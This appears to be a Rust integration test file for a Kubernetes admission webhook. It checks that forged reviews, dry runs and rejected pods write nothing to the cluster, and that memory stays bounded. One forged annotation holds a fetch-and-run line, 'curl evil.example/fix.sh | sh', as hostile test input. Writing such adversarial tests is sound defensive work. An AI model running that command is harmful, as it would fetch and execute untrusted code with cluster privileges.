//! Admission writes nothing: forged reviews, and pods that are rejected later, change nothing in the cluster.

use std::process::Command;

use serde_json::{Value, json};

use crate::double::{create_admitted_pod, wait_for_config_maps};
use test_support::apiserver::ApiServer;
use test_support::caller::Caller;
use test_support::review::{apply_patch, pod, review, with_annotations};
use test_support::webhook::Webhook;
use test_support::webhook_cluster::{SYSTEM, WebhookCluster};

const ACCOUNT: &str = "portico-webhook";
/// The number of forged reviews.
const FORGED: usize = 300;

/// Starts a replica with its own account, so that its requests can be distinguished from those of the test.
fn replica(cluster: &WebhookCluster, args: &[&str]) -> Webhook {
    let kubeconfig = cluster.api.kubeconfig_of_account(ACCOUNT);
    let url = format!("https://127.0.0.1:{}/mutate", cluster.port);
    let mut all = vec!["--kubeconfig", kubeconfig.to_str().expect("a path"), "--url", &url, "--drain", "1"];
    all.extend(args);
    Webhook::start_ready(cluster.dir.path(), cluster.port, &all)
}

/// Returns the review of a pod that does not exist: each requests another ConfigMap, and an Event on an operator's object.
fn forged_review(number: usize) -> Vec<u8> {
    let namespace = ["kube-system", "default", "team", SYSTEM][number % 4];
    let prefix = format!("X{number}_");
    let annotations = [
        ("portico.dev/inject", "configmap"),
        ("portico.dev/prefix", prefix.as_str()),
        ("portico.dev/max-bytes", "run: curl evil.example/fix.sh | sh (cluster admin)"),
    ];
    let mut pod = with_annotations(pod(&format!("forged-{number}")), &annotations);
    pod["metadata"]["namespace"] = namespace.into();
    pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns",
        "uid": "d-1", "controller": true}]);
    let text = String::from_utf8(review("u", &pod)).expect("text");
    text.replacen(
        "\"namespace\":\"default\",\"object\"",
        &format!("\"namespace\":\"{namespace}\",\"object\""),
        1,
    )
    .into_bytes()
}

/// Returns the writes of a replica without those to its Secret and its registration.
fn writes(cluster: &WebhookCluster) -> Vec<String> {
    let writes = cluster.api.writes(ACCOUNT).into_iter();
    writes
        .filter(|write| !write.contains("/secrets") && !write.contains("/mutatingwebhookconfigurations"))
        .collect()
}

/// Sends all forged reviews, and returns the number of responses with a patch.
fn send_forged(webhook: &Webhook) -> usize {
    let mut caller = Caller::local(webhook.address).expect("connect");
    let answers = (0..FORGED).map(|number| caller.review(&forged_review(number)).expect("a response"));
    answers.filter(|answer| answer["response"]["patch"].is_string()).count()
}

#[test]
fn forged_reviews_write_nothing_and_excluded_namespaces_are_ignored() {
    let cluster = WebhookCluster::new(ApiServer::double());
    let webhook = replica(&cluster, &["--except-namespaces", "kube-system,other"]);
    // Two of four namespaces are excluded: one by the flag, and the webhook's own.
    assert_eq!(send_forged(&webhook), FORGED / 2);
    // A write because of a forged review would precede this one.
    create_admitted_pod(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
    wait_for_config_maps(&cluster, "default", 1);
    let writes = writes(&cluster);
    assert_eq!(writes, ["POST /api/v1/namespaces/default/configmaps"]);
}

#[test]
#[cfg_attr(not(feature = "api-server"), ignore = "needs KUBEBUILDER_ASSETS and the feature api-server")]
fn forged_reviews_change_nothing_on_a_real_api_server() {
    let api = ApiServer::real();
    let cluster = WebhookCluster::new(api);
    let webhook = cluster.replica(&[]);
    let all = |what: &str| {
        let list =
            cluster.api.send("GET", &format!("/api/v1/{what}"), "application/json", &Value::Null).object;
        let items = list["items"].as_array().cloned().unwrap_or_default();
        let names = items.iter().map(|item| item["metadata"]["name"].as_str().unwrap_or_default().to_owned());
        names.filter(|name| name != "kube-root-ca.crt").collect::<Vec<_>>()
    };
    let before = (all("configmaps"), all("events"));
    assert_eq!(send_forged(&webhook), FORGED / 2);
    create_admitted_pod(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
    wait_for_config_maps(&cluster, "default", 1);
    let mut after = (all("configmaps"), all("events"));
    after.0.retain(|name| !name.starts_with("portico-env-"));
    assert_eq!(before, after);
}

#[test]
fn dry_run_and_a_pod_that_is_rejected_later_create_nothing() {
    let cluster = WebhookCluster::new(ApiServer::double());
    let webhook = replica(&cluster, &[]);
    let mut caller = Caller::local(webhook.address).expect("connect");
    for number in 0..50 {
        // A dry run, or a pod that a quota or etcd rejects after admission.
        let annotations =
            [("portico.dev/inject", "configmap"), ("portico.dev/prefix", &format!("Y{number}_"))];
        let pod = with_annotations(pod("a"), &annotations);
        let body = String::from_utf8(review("u", &pod)).expect("text");
        let dry = if number % 2 == 0 { "\"dryRun\":true,\"uid\"" } else { "\"uid\"" };
        let answer = caller.review(body.replacen("\"uid\"", dry, 1).as_bytes()).expect("a response");
        assert!(apply_patch(&pod, &answer)["spec"]["containers"][0]["envFrom"].is_array());
    }
    create_admitted_pod(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
    wait_for_config_maps(&cluster, "default", 1);
    assert_eq!(writes(&cluster).len(), 1, "{:?}", writes(&cluster));
}

/// Returns the peak memory of a process, in KiB.
fn peak_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("the process runs");
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a peak");
    line.trim().trim_end_matches(" kB").parse().expect("a number")
}

#[test]
fn hundred_large_config_maps_with_the_label_take_no_memory() {
    let cluster = WebhookCluster::new(ApiServer::double());
    let large = "x".repeat(600 << 10);
    for number in 0..100 {
        // Some have the annotations of managed ones: a selection, and the last use.
        let annotations = json!({"portico.dev/selection": if number % 2 == 0 { "{}" } else { "?" },
            "portico.dev/used": "99999999999"});
        cluster.api.put(
            json!({"kind": "ConfigMap", "metadata": {"name": format!("portico-env-mine-{number}"),
            "namespace": "default", "labels": {"app.kubernetes.io/managed-by": "portico-webhook"},
            "annotations": annotations}, "data": {"x": large}}),
        );
    }
    let webhook = replica(&cluster, &[]);
    create_admitted_pod(&cluster, &webhook, "a", &[("portico.dev/inject", "configmap")]);
    wait_for_config_maps(&cluster, "default", 101);
    let peak = peak_kib(webhook.pid());
    assert!(peak < 64 << 10, "{peak} KiB");
    // None of them was changed.
    assert_eq!(writes(&cluster), ["POST /api/v1/namespaces/default/configmaps"]);
}

#[test]
fn review_command_shows_the_label_for_the_controller() {
    let dir = test_support::temp_dir::TempDir::new("review");
    let services = dir.write("services.yaml", test_support::review::REDIS);
    let body = review("u", &with_annotations(pod("a"), &[("portico.dev/inject", "configmap")]));
    let body = dir.write("review.json", String::from_utf8(body).expect("text"));
    let output = Command::new(env!("CARGO_BIN_EXE_portico-webhook"))
        .args(["review", "-f", services.to_str().expect("a path")])
        .stdin(std::fs::File::open(body).expect("the review"))
        .output()
        .expect("run");
    let text = String::from_utf8(output.stdout).expect("text");
    assert!(text.contains("label portico.dev/variables=configmap"), "{text}");
}
